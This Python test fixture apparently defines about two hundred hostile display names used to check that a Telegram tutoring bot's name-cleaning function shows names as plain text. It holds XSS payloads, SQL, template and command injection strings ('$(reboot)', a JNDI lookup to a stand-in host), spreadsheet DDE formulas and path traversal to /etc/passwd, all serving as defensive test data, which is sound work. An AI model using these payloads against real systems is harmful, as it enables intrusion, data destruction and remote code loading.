"""Two hundred names that break careless software: what people might type, or might be told to type, as their name.

    @pytest.mark.parametrize("name", HOSTILE_NAMES)      or, in one test over all,      for name in HOSTILE_NAMES:

Each is what comes in; what is kept of it is `name_of` in `bot/tutor/team/people/naming.py`, and may be nothing at all.
A page, a message, a card or a file must show what was kept as plain words: no markup, no formula, no broken line.
"""

from __future__ import annotations

_HTML = (
    "<b>Sáu</b>", "<script>alert(1)</script>", "</script><script>alert(1)</script>", "<img src=x onerror=alert(1)>",
    "<a href='tg://user?id=1'>Tổ</a>", "<a href='https://lua.example'>bấm đây</a>", "\"><svg onload=alert(1)>",
    "' onmouseover='alert(1)", "\" autofocus onfocus=alert(1) x=\"", "&lt;b&gt;", "&amp;amp;", "&#x202E;", "&nbsp;",
    "<!-- cô Sáu", "--> cô Sáu", "<![CDATA[Sáu]]>", "<iframe src=javascript:alert(1)>", "javascript:alert(1)",
    "<style>*{display:none}</style>", "</title>", "</td></tr></table>", "<br><br><br>", "<tg-spoiler>ẩn</tg-spoiler>",
    "<meta http-equiv=refresh content=0>", "<base href=//lua.example>", "<form action=/xoa>", "<input name=csrf>",
    "`<b>`", "< b >Sáu</ b >", "<<Sáu>>",
)  # fmt: skip
_TEMPLATES = (
    "{bạn}", "{mình}", "{tên}", "{don-vi}", "{", "}", "{{", "}}", "{}", "{0}", "{name}", "{{7*7}}", "{% raw %}",
    "{# bình luận #}", "${7*7}", "#{7*7}", "%s", "%(name)s", "%n%n%n", "{self.__class__}", "{{ config }}",
    "{% for x in range(9) %}", "${jndi:ldap://lua.example/a}", "$(reboot)", "`reboot`", "|| reboot", "; DROP TABLE",
    "{cô Sáu}", "{a}{b}{c}", "{bạn",
)  # fmt: skip
_FORMULAS = (
    "=cmd|' /C calc'!A0", "=1+1", "+1+1", "-1+1", "@SUM(A1:A9)", "=HYPERLINK(\"http://lua.example\";\"Sáu\")",
    "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "＝1+1", "＋1", "－1", "＠SUM(1)", "'=1+1", "\"=1+1", "=IMPORTXML(1;2)",
    "=DDE(\"cmd\";\"/C calc\";\"x\")", "%0A=1+1", ";=1+1", ",=1+1", "Sáu,=1+1", "Sáu;\"=1+1", "Sáu\"\n=1+1", "|=1+1",
)  # fmt: skip
_QUERIES = (
    "' OR 1=1 --", "'; DROP TABLE learner; --", "\"; DELETE FROM role; --", "' UNION SELECT 1,2,3 --", "Robert'); --",
    "%", "_", "%%%", "\\", "\\\\", "\\'", "\\x00", "\\u0000", "../../etc/passwd", "..\\..\\sen.db", "C:\\con",
    "/dev/null", "file:///etc/passwd", "a\\nb", "NULL", "null", "None", "undefined", "NaN", "true",
)  # fmt: skip
_DIRECTIONS = (
    "\u202eụáS ôc", "\u202dcô Sáu\u202c", "\u2066cô\u2069 Sáu", "\u2067cô Sáu", "\u200fcô Sáu", "\u200ecô Sáu",
    "cô\u200bSáu", "cô\u200cSáu", "cô\u200dSáu", "\ufeffcô Sáu", "cô\u00adSáu", "\u2060cô", "שלום", "مرحبا",
    "مرحبا Sáu",
    "Sáu \u202e4321 AẴN", "\u061cSáu", "\u180eSáu", "\u034fSáu", "\u2028Sáu", "Sáu\u2029Bảy", "\u0085Sáu",
    "\u115f\u1160", "\u3164", "\uffa0",
)  # fmt: skip
_SHAPES = (
    "", " ", "   ", "\n", "\t", "\r\n", "\x00", "\x00Sáu", "Sáu\x00Bảy", "\x1b[31mSáu\x1b[0m", "\x07", "\x08\x08Sáu",
    "cô\nSáu", "cô\r\nSáu\r\n", "cô\n\n\n\n\nSáu", "cô\tSáu", "  cô   Sáu  ", "cô\u00a0Sáu", "cô\u3000Sáu", ".", "...",
    "-", "—", "***", "**cô Sáu**", "**", "__Sáu__", "[Sáu](tg://user?id=1)", "> Sáu", "# Sáu", "- Sáu", "1. Sáu",
    "@quantri", "/xoa", "/start c_ABCDEFGH", "https://lua.example", "lua.example", "t.me/lua_bot", "sen@lua.example",
    "\ud83d", "Sáu \udc00", "\udfff\ud800",
)  # fmt: skip
_SIZES = (
    "S" * 65, "Sáu " * 2_000, "ệ" * 4_096, "\U0001f338" * 3_000, "a" + "\u0301" * 500, "Z" + "\u035b\u0489" * 200,
    "N" * 100_000, "cô " + "rất " * 60 + "Sáu",
)  # fmt: skip
_LETTERS = (
    "\U0001f338", "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466", "\U0001f1fb\U0001f1f3", "❤️", "☎️",
    "\U0001f3fb", "Co\u0302 Sa\u0301u", "\u212bSáu", "ＳÁＵ", "𝕊á𝕦", "Ｓａｕ", "ﬁ", "ß", "İ", "ı", "Ǆ", "阿六", "ก",
    "Нгуен", "Ѕáu", "cô S\u0430u", "Ð", "đ",
)  # fmt: skip
_NUMBERS = (
    "079123456789", "0912 345 678", "0912.345.678", "+84912345678", "9704 1234 5678 9012", "123456", "số 6",
    "OTP 482913", "mật khẩu abc123", "Sáu 079123456789",
    "２３４５６７８９０１２３", "٠٩١٢٣٤٥٦٧٨", "CCCD 079 123 456 789", "1" * 40,
)  # fmt: skip
_PRETENDERS = (
    "Sen", "Tổ công nghệ số", "Công an xã", "Quản trị viên", "Admin", "BotFather", "Telegram", "Ngân hàng",
    "✅ Công an", "cô Sáu (đã xác nhận)",
)  # fmt: skip

HOSTILE_NAMES: tuple[str, ...] = (
    *_HTML, *_TEMPLATES, *_FORMULAS, *_QUERIES, *_DIRECTIONS, *_SHAPES, *_SIZES, *_LETTERS, *_NUMBERS, *_PRETENDERS,
)  # fmt: skip
"""All of them, each once."""
